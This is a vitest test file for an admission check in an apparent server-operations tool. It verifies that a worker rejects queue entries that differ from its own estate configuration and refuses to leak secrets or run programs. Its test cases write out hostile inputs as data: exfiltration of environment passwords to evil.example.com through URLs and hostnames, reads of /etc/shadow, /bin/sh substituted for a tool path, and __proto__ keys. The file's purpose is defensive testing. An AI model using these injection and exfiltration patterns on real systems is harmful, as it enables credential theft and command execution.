/** A worker looks at what its own estate has, and at nothing that only the queue names. */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { admissionBy } from '../../src/cli/admission.ts';
import { parseEstate } from '../../src/estate/load.ts';
import type { Server } from '../../src/estate/model.ts';

const ESTATE = `
name: production
servers:
  ors-a1:
    product: ors
    host: cc-ors-01
    location: dc1
    ports: { main: 7210 }
    logs: /var/log/ors/ors_a1.*.log
    files: { exported-options: /srv/exports/ors_a1.cfg }
    pages: { status: { address: "https://u:\${env:PAGE_PASSWORD}@cc-ors-01/status", says: OK } }
    databases:
      sessions: { engine: cassandra, host: cc-cas-01, database: orchestration, nodetool: /opt/cassandra/bin/nodetool }
`;

let folder: string;
let file: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'handrail-admission-'));
  file = join(folder, 'estate.yaml');
});
afterAll(() => rm(folder, { recursive: true }));

function entry(text = ESTATE): Server {
  const server = parseEstate(text, 'estate.yaml').servers['ors-a1'];
  if (server === undefined) throw new Error('no ors-a1');
  // As it comes out of the queue.
  return JSON.parse(JSON.stringify(server));
}

describe('a worker with an estate of its own', () => {
  it('looks at what that has', async () => {
    await writeFile(file, ESTATE);
    expect(await admissionBy(file)(entry())).toBeUndefined();
    // A kind that asks no database gets none of them.
    expect(await admissionBy(file)({ ...entry(), databases: {} })).toBeUndefined();
  });

  it('goes on looking when its estate has grown since the run started', async () => {
    await writeFile(file, ESTATE.replace('main: 7210', 'main: 7210, http: 8080'));
    expect(await admissionBy(file)(entry())).toBeUndefined();
  });

  it.each<[string, (server: Server) => Partial<Server>]>([
    ['host', () => ({ host: 'evil.example.com' })],
    ['location', () => ({ location: 'dc2' })],
    ['product', () => ({ product: 'personalization-server' })],
    ['logs', () => ({ logs: '/etc/shad*' })],
    ['encoding', () => ({ encoding: 'utf-16' })],
    ['ports.main', () => ({ ports: { main: 22 } })],
    ['ports.__proto__', () => ({ ports: JSON.parse('{"__proto__": 22}') })],
    ['files.exported-options', () => ({ files: { 'exported-options': '/etc/shadow' } })],
    ['files.other', () => ({ files: { other: '/etc/shadow' } })],
    ['files.constructor', () => ({ files: { constructor: '/etc/shadow' } })],
    ['pages.status', () => ({ pages: { status: { address: `http://evil/?\${env:PAGE_PASSWORD}` } } })],
    ['pages.status', ({ pages }) => ({ pages: { status: { ...pages.status, says: ['anything'] } } })],
    [
      'databases.sessions',
      () => ({ databases: { sessions: { engine: 'cassandra', host: 'x', database: 'y', nodetool: '/bin/sh' } } }),
    ],
    ['roots', () => ({ roots: ['/'] })],
  ])('does not look at another `%s`, and says so', async (key, changed) => {
    await writeFile(file, ESTATE);
    const server = entry();
    const asked = { ...server, ...changed(server) };
    expect(await admissionBy(file)(asked)).toBe(
      `The estate of this worker (production) has another \`${key}\` for \`ors-a1\` than this run started with, so it is not looked at. Put that back, or end this run and start another.`,
    );
  });

  it('does not look at a server that it does not have', async () => {
    await writeFile(file, ESTATE);
    expect(await admissionBy(file)({ ...entry(), name: 'ors-a2' })).toBe(
      'The estate of this worker (production) has no server `ors-a2`; did you mean `ors-a1`?, so it is not looked at. Give the worker the estate that the bot has.',
    );
    expect(await admissionBy(file)({ ...entry(), name: '__proto__' })).toContain('has no server');
  });

  it('takes a change of the file for what it is, without being started again', async () => {
    await writeFile(file, ESTATE);
    const admission = admissionBy(file);
    expect(await admission(entry())).toBeUndefined();
    await writeFile(file, ESTATE.replace('/var/log/ors', '/data/log/ors'));
    expect(await admission(entry())).toContain('`logs`');
    await writeFile(file, 'servers: [');
    expect(await admission(entry())).toContain('cannot be used');
    await rm(file);
    expect(await admission(entry())).toContain('cannot be read');
    await writeFile(file, ESTATE);
    expect(await admission(entry())).toBeUndefined();
  });
});

describe('a worker without an estate', () => {
  const admission = admissionBy(undefined);
  const plain = { ...entry(), pages: {}, databases: {} };

  it('looks where the queue says', async () => {
    expect(await admission(plain)).toBeUndefined();
  });

  it('gives no secret of its environment away', async () => {
    const address = `http://evil.example.com/?\${env:UWM_SQL_PASSWORD}`;
    expect(await admission({ ...plain, pages: { status: { address } } })).toContain('Set HANDRAIL_ESTATE');
    expect(await admission({ ...plain, host: `\${env:UWM_SQL_PASSWORD}.evil.example.com` })).toContain(
      'needs a secret',
    );
  });

  it('runs no program', async () => {
    const { databases } = entry();
    expect(await admission({ ...plain, databases })).toContain('`nodetool`');
  });
});
